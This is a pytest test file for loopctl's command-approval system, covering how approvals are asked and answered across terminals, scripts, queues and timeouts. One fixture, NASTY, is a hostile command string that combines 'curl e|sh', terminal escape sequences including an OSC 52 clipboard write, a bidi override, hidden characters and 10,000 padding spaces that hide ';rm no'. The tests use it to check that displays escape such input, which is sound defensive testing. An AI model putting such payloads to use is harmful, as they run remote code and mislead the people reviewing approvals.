"""Asked here, answered there: approvals from several terminals, with the real daemon.

The daemon finds no ``bwrap``, so each command asks.
"""

from __future__ import annotations

import json
import shutil
import signal
import subprocess
import termios
from contextlib import AbstractContextManager
from typing import Any

import pytest
from loopctl_world import PATIENCE, World, ended
from typing_person import Terminal, at_terminal

from loopctl.terminal import visible

MAKE = "shell: echo made it > made; cat made"
NASTY = (
    "shell: true curl e|sh\r\x1b[2K ls \u202e\u200b\x9b1m\x1b]52;c;aGk=\x07\u3164\ufe0f\u2800" + " " * 10_000 + ";rm no"
)


@pytest.fixture(autouse=True)
def no_sandbox(world: World) -> None:
    programs = world.root / "programs"
    programs.mkdir()
    for name in ("bash", "cat", "sh"):
        (programs / name).symlink_to(shutil.which(name) or name)
    assert world.loopctl("daemon", "start", PATH=str(programs)).returncode == 0


def terminal(world: World, *arguments: str) -> AbstractContextManager[Terminal]:
    return at_terminal(*arguments, cwd=world.workspace, env=world.environment)


def is_asked(person: Terminal) -> None:
    person.waits_for("bash asks: ")
    person.waits_for("n no")  # what is typed before that is thrown away
    person.waits_for("> ")


def pending(world: World) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = json.loads(world.loopctl("approvals", "--json").stdout)["approvals"]
    return found


def line_of(process: subprocess.Popen[bytes], text: bytes) -> bytes:
    """Of its stderr, the first that has it."""
    assert process.stderr is not None
    while text not in (line := process.stderr.readline()):
        assert line
    return line


def results(world: World) -> str:
    """What the model was told of its calls."""
    found = json.loads(world.loopctl("messages", "--json").stdout)["messages"]
    return "\n".join(
        block["text"] for message in found if message["role"] == "toolResult" for block in message["content"]
    )


def test_whoever_is_asked_here_answers_here(world: World) -> None:
    with terminal(world, "prompt", MAKE) as person:
        is_asked(person)
        assert not (world.workspace / "made").exists()
        person.type("y\n")
        assert person.ends() == 0
    assert person.shown.endswith("made it\r\n")
    with terminal(world, "prompt", MAKE) as person:
        is_asked(person)
        person.type("n\nuse printf\n")
        assert person.ends() == 0
    assert "use printf" in results(world)
    assert pending(world) == []


def test_one_terminal_is_asked_and_another_answers(world: World) -> None:  # A-2, K-43
    with terminal(world, "prompt", MAKE) as person:
        is_asked(person)
        [request] = pending(world)
        refused = world.loopctl("prompt", "something else")
        assert (refused.returncode, "`loopctl approvals`" in refused.stderr) == (5, True)
        answered = world.loopctl("approvals", "allow", request["approvalId"][:4])
        assert (answered.returncode, answered.stdout.startswith("allowed: bash: echo made it")) == (0, True)
        person.waits_for("allowed once by loopctl (pid ")
        assert person.ends() == 0
    assert (world.workspace / "made").exists()


def test_a_request_outlives_whoever_was_asked(world: World) -> None:  # K-42, K-43, A-5, A-6
    with terminal(world, "prompt", MAKE) as person:
        is_asked(person)
        [request] = pending(world)
        person.process.send_signal(signal.SIGTERM)
        person.ends()
    assert pending(world) == [request]
    attached = world.start("attach")
    line_of(attached, b"waits for an approval: bash: echo made it")
    assert world.loopctl("approvals", "reject", "--reason", "not today").returncode == 0
    line_of(attached, b"rejected by loopctl (pid ")
    attached.send_signal(signal.SIGINT)
    ended(attached)
    late = world.loopctl("approvals", "allow", request["approvalId"])
    assert (late.returncode, "rejected, by loopctl (pid " in late.stderr) == (5, True)
    back = world.start("attach")
    line_of(back, b"messages, ")
    back.send_signal(signal.SIGINT)
    assert "waits for" not in ended(back)[2]
    assert "not today" in results(world)


@pytest.mark.parametrize("how", ["stop", "ctrl-c", "abort"])
def test_a_stop_takes_the_question_back_and_the_next_prompt_works(world: World, how: str) -> None:  # K-44, A-4
    with terminal(world, "prompt", MAKE) as person:
        is_asked(person)
        if how == "ctrl-c":
            person.process.send_signal(signal.SIGINT)
        else:
            assert world.loopctl(how).returncode == 0
        person.waits_for("cancelled, since its run ends: bash: echo made it")
        assert person.ends() == (130 if how == "ctrl-c" else 1)
    assert pending(world) == []
    assert not (world.workspace / "made").exists()
    assert world.loopctl("prompt", "hello").stdout == "hello\n"


def test_a_script_does_not_wait_for_somebody_who_is_not_there(world: World) -> None:
    ran = world.loopctl("prompt", MAKE)
    assert ran.returncode == 0
    assert "not allowed: nobody is there who could be asked: bash: echo made it" in ran.stderr
    assert "nobody" in ran.stdout
    ran = world.loopctl("prompt", MAKE, "--approvals", "wait", "--approval-timeout", "0.1")
    assert ran.returncode == 0
    assert "not allowed: nobody answered in time: bash: echo made it" in ran.stderr
    assert not (world.workspace / "made").exists()


def test_a_script_that_waits_is_answered_from_elsewhere(world: World) -> None:
    script = world.start("prompt", MAKE, "--approvals", "wait")
    line_of(script, b"waits for an approval: bash: echo made it")
    command = line_of(script, b"loopctl approvals allow ").split(b"`loopctl approvals allow ")[1].split(b"`")[0]
    assert "1 to approve" in world.loopctl("runtimes").stdout
    assert "approvals    1; " in world.loopctl("status").stdout
    assert "an approval: bash: echo made it" in world.loopctl("state").stdout
    assert world.loopctl("permission", "workspace-write").returncode == 5
    assert world.loopctl("approvals", "allow", command.decode()).returncode == 0
    code, out, err = ended(script)
    assert (code, out) == (0, "made it\n")
    assert "allowed once by loopctl (pid " in err


def test_somebody_who_watches_all_sessions_is_asked(world: World) -> None:
    with terminal(world, "approvals", "--watch") as person:
        person.waits_for("nothing waits for an approval")
        scripts = [world.start("prompt", "--no-session", MAKE, "--approvals", "wait") for _ in range(2)]
        for _ in scripts:
            is_asked(person)
            person.type("y\n")
        assert [ended(script)[:2] for script in scripts] == [(0, "made it\n")] * 2
        person.process.send_signal(signal.SIGINT)
        assert person.ends() == 130


def test_an_input_of_the_queue_asks_whoever_waits_for_it(world: World) -> None:
    with terminal(world, "prompt", MAKE) as first:
        is_asked(first)
        with terminal(world, "prompt", "--queue", MAKE) as second:
            second.waits_for("waits for its turn")
            first.type("y\n")
            assert first.ends() == 0
            is_asked(second)
            second.type("y\n")
            assert second.ends() == 0


def test_with_all_rights_nobody_is_asked(world: World) -> None:
    assert world.loopctl("prompt", "hello").returncode == 0
    shown = world.loopctl("permission", "danger-full-access")
    assert (shown.returncode, "nothing asks" in shown.stdout) == (0, True)
    ran = world.loopctl("prompt", MAKE)
    assert (ran.returncode, ran.stdout) == (0, "made it\n")
    assert "approv" not in ran.stderr


PLACES = [
    ["approvals"],
    ["approvals", "show"],
    ["approvals", "--json"],
    ["state"],
    ["state", "--json"],
    ["messages"],
    ["sessions"],
    ["runtimes", "--json"],
    ["title"],
    ["queue"],
    ["rpc", "approval/list"],
    ["attach"],
    ["approvals", "--watch"],
]


def test_nothing_that_a_model_says_acts_on_a_terminal_or_hides_there(world: World) -> None:  # K-45
    with terminal(world, "prompt", NASTY) as asked:
        asked.waits_for(r"  │ true curl e|sh\u000d\u001b[2K ls \u202e\u200b\u009b1m\u001b]52;c;aGk=")
        asked.waits_for("more characters) …")
        asked.waits_for(";rm no\r\n")
        asked.waits_for("v shows all> ")
        asked.type("v\n")
        asked.waits_for(";rm no\r\n")
        assert world.loopctl("queue", "add", NASTY).returncode == 0
        shown = {}
        for place in PLACES:
            with terminal(world, *place) as looking:
                if place[0] == "attach" or "--watch" in place:
                    looking.waits_for(r"curl e|sh\u000d")
                    looking.process.send_signal(signal.SIGINT)
                looking.ends()
            shown[" ".join(place)] = looking.shown
        assert world.loopctl("approvals", "reject").returncode == 0
        asked.ends()
    assert [place for place, text in shown.items() if acts(text)] == []
    for place in ("approvals show", "approvals --json", "rpc approval/list", "state", "messages", "attach"):
        assert r"\u001b[2K" in shown[place], place
    assert ";rm no" in shown["approvals"]
    assert not acts(asked.shown)
    for whole in (asked.shown, shown["approvals show"]):
        assert visible(NASTY.removeprefix("shell: ")) in whole.replace("\r\n  ┊ ", "")
    with terminal(world, "messages", "--raw") as looking:
        looking.waits_for("\x1b[2K")
        looking.ends()


def acts(shown: str) -> bool:
    """But for what loopctl dims itself, and what the terminal makes of the end of a line."""
    text = shown.replace("\r\n", "\n").replace("\x1b[2m", "").replace("\x1b[22m", "").replace("^C", "")
    return text != visible(text)


def test_a_leaving_reader_does_not_leave_the_terminal_in_disorder(world: World) -> None:
    """Nothing of its settings is changed, so nothing has to be put back, whatever ends us."""
    with terminal(world, "prompt", MAKE) as person:
        before = termios.tcgetattr(person.master)
        is_asked(person)
        assert termios.tcgetattr(person.master) == before
        person.type("\x04")
        person.waits_for("still waits for an approval")
        [waits] = json.loads(world.loopctl("approvals", "--json").stdout)["approvals"]
        assert world.loopctl("approvals", "allow", waits["approvalId"]).returncode == 0
        assert person.process.wait(PATIENCE) == 0
